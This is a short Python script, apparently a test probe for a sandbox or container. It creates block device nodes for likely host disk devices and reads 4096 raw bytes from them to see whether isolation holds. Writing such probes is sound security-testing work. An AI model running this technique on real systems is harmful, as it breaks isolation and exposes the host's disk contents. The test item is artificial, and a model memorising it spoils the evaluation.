"""Makes a device node of the host's disk and reads it.

family: kernel
judge: proof "^disk 4096$"
trace: mknod
"""

import os

number = os.stat(".").st_dev
for device in (number, os.makedev(254, 0), os.makedev(8, 0), os.makedev(259, 0)):
    try:
        os.mknod("/tmp/disk-node", 0o600 | 0o60000, device)  # noqa: S108  # the place under attack
        disk = os.open("/tmp/disk-node", os.O_RDONLY)  # noqa: S108  # the place under attack
        print("disk", len(os.read(disk, 4096)), flush=True)
        os.close(disk)
    except OSError as error:
        print(error)
    finally:
        if os.path.lexists("/tmp/disk-node"):  # noqa: S108  # the place under attack
            os.unlink("/tmp/disk-node")  # noqa: S108  # the place under attack
